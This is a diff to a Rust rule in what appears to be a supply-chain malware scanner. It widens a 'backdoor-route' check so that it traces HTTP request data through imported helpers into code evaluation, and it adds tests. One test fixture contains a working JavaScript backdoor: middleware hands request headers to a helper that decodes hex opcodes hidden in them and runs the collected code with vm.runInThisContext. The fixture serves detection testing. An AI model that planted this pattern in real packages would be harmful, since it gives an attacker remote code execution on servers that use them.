@@ -1,7 +1,8 @@
 //! `code/backdoor-route`.
 
-use super::{chain, finding, per_signal};
+use super::{chain, describe, finding, flow_finding, flows, one_per_sink, per_signal};
 use crate::CodeFinding;
+use crate::flow::{SinkKind, SourceKind, flags};
 use crate::signal::{Kind, PackageFacts};
 use crate::verdict::Locality;
 use diligence_finding::Severity;
@@ -17,7 +18,12 @@ diligence_finding::declare_rule! {
     /// handler by a process spawn (`exec`, `spawn`), code evaluation (`eval`, `Function`, `vm`) or a file delete.
     /// Also, with no key: code evaluation (`eval`, `Function`, `vm.runIn*Context`, `vm.Script`, `_compile`) of a
     /// computed string inside a handler (or a callback nested in it) that read its request's client input
-    /// (`req.headers`, `req.rawHeaders`, `req.body`, `req.query`, `req.params`, `req.cookies`).
+    /// (`req.headers`, `req.rawHeaders`, `req.body`, `req.query`, `req.params`, `req.cookies`). And, by value
+    /// flow, a handler's request (a function taking `(req, res)`, `(request, response)` or `(request, reply)`)
+    /// that reaches code evaluation or a module load in any function or module of the package — handed to an
+    /// imported "normaliser" that interprets opcodes in the headers and runs what it collected with `vm`:
+    /// reported (critical) when the request data is unscrambled on the way (hex, base64, char codes, XOR,
+    /// reversal, decryption) or run with Node's `require`; data run as sent through helpers is not (see below).
     ///
     /// ## Why it matters
     /// A middleware package that the application mounts turns the application's own server into the attacker's
@@ -37,12 +43,62 @@ diligence_finding::declare_rule! {
     /// Template engines compile templates with `Function` in their own module, not inside the application's
     /// handler; a handler that runs a command with request data (an editor launcher) is not reported without a key;
     /// `vm.createContext` and other `vm` calls that evaluate nothing are not code evaluation. A code playground
-    /// server that evaluates submitted code on purpose would be reported.
+    /// server that evaluates submitted code on purpose would be reported when it does so in the handler itself;
+    /// through a helper only if it decodes (base64, hex) what it runs or hands it Node's `require`.
     pub static BACKDOOR_ROUTE = { id: "code/backdoor-route", severity: Severity::Critical };
 }
 
-/// One finding per keyed action.
+/// Paths from a request handler's request into code (`eval`, `Function`, `vm`, `_compile`,
+/// a module load) in whatever function or module: critical when the request data is
+/// unscrambled on the way (hex/base64/char codes, XOR, reversed, decrypted) or run with
+/// Node's `require` in hand; not reported when run as sent (a code playground, a template).
+fn request_code(p: &PackageFacts, keyed: &[CodeFinding]) -> Vec<CodeFinding> {
+    let out = flows(
+        p,
+        &[SourceKind::Request],
+        &[SinkKind::Eval, SinkKind::Require],
+    )
+    .filter(|path| {
+        !keyed
+            .iter()
+            .any(|k| k.file == path.to.file && k.line == path.to.line)
+    })
+    // Request data run as sent, across helpers, is what template engines, module
+    // loaders and playgrounds do with their input (and the solver's over-approximation
+    // of shared utilities); hidden opcodes are decoded first.
+    .filter(|path| {
+        path.flags & flags::NODE_SCOPE != 0
+            || path
+                .steps
+                .iter()
+                .any(|s| super::decode_exec::UNSCRAMBLING.contains(&s.what.as_str()))
+    })
+    .take(20)
+    .map(|path| {
+        flow_finding(
+            &BACKDOOR_ROUTE,
+            Severity::Critical,
+            p,
+            path,
+            format!(
+                "a client's request is decoded and executed: {}",
+                describe(path)
+            ),
+        )
+    })
+    .collect();
+    one_per_sink(out)
+}
+
+/// One finding per keyed action, and per request-to-code path.
 pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
+    let mut out = keyed(p);
+    let more = request_code(p, &out);
+    out.extend(more);
+    out
+}
+
+fn keyed(p: &PackageFacts) -> Vec<CodeFinding> {
     per_signal(p, Kind::KeyedRoute, |f, s| {
         Some(finding(
             &BACKDOOR_ROUTE,
@@ -145,6 +201,68 @@ module.exports = function view(req, res, next) {
   res.end(page({ lang: ctx.lang }));
 };
 ",
+            ),
+        ]);
+        assert!(
+            hits(&s, "code/backdoor-route").is_empty(),
+            "{:?}",
+            s.findings
+        );
+    }
+
+    /// The header scan moved into an imported helper that buffers hex chunks in a module-level
+    /// object and runs them with `vm` (the handler itself evaluates nothing).
+    #[test]
+    fn positive_request_headers_interpreted_by_an_imported_helper() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "lib/codec.js",
+                "const vm = require('vm');\nconst store = { buf: '' };\nconst decode = {\n  headers(h) {\n    JSON.stringify(h).replace(/g([a-f0-9]{4})h((?:[a-f0-9]{2})+)i/gi, (_, op, data) => {\n      const bytes = Buffer.from(data, 'hex');\n      if (op === '3a1c') store.buf += bytes.toString();\n      if (op === '7bd9') { vm.runInThisContext(store.buf); store.buf = ''; }\n      return '';\n    });\n  },\n};\nmodule.exports = { decode };\n",
+            ),
+            (
+                "index.js",
+                "const { decode } = require('./lib/codec');\nmodule.exports = () => function parse(req, res, next) {\n  req.cookies = {};\n  decode.headers(req.headers);\n  next();\n};\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/backdoor-route"),
+            vec![("lib/codec.js".to_string(), 8)]
+        );
+        assert_eq!(s.verdict, Verdict::Malicious);
+    }
+
+    /// Benign look-alikes: a cookie parser whose imported helper decodes header values
+    /// (`decodeURIComponent`, base64 session JSON) and only parses them; a code playground
+    /// that runs submitted code as sent through a helper.
+    #[test]
+    fn negative_request_parsed_by_helper_and_playground() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "lib/codec.js",
+                "exports.session = (h) => JSON.parse(Buffer.from(String(h.cookie || '').split('=')[1] || 'e30', 'base64').toString());\nexports.lang = (h) => decodeURIComponent(h['accept-language'] || 'en');\n",
+            ),
+            (
+                "index.js",
+                "const codec = require('./lib/codec');\nmodule.exports = () => (req, res, next) => {\n  req.session = codec.session(req.headers);\n  req.lang = codec.lang(req.headers);\n  next();\n};\n",
+            ),
+        ]);
+        assert!(
+            hits(&s, "code/backdoor-route").is_empty(),
+            "{:?}",
+            s.findings
+        );
+        assert_eq!(s.verdict, Verdict::Clean);
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "run.js",
+                "const vm = require('vm');\nexports.run = (code) => vm.runInNewContext(code, { console }, { timeout: 50 });\n",
+            ),
+            (
+                "index.js",
+                "const { run } = require('./run');\nmodule.exports = (request, reply) => reply.send(String(run(request.body.code)));\n",
             ),
         ]);
         assert!(
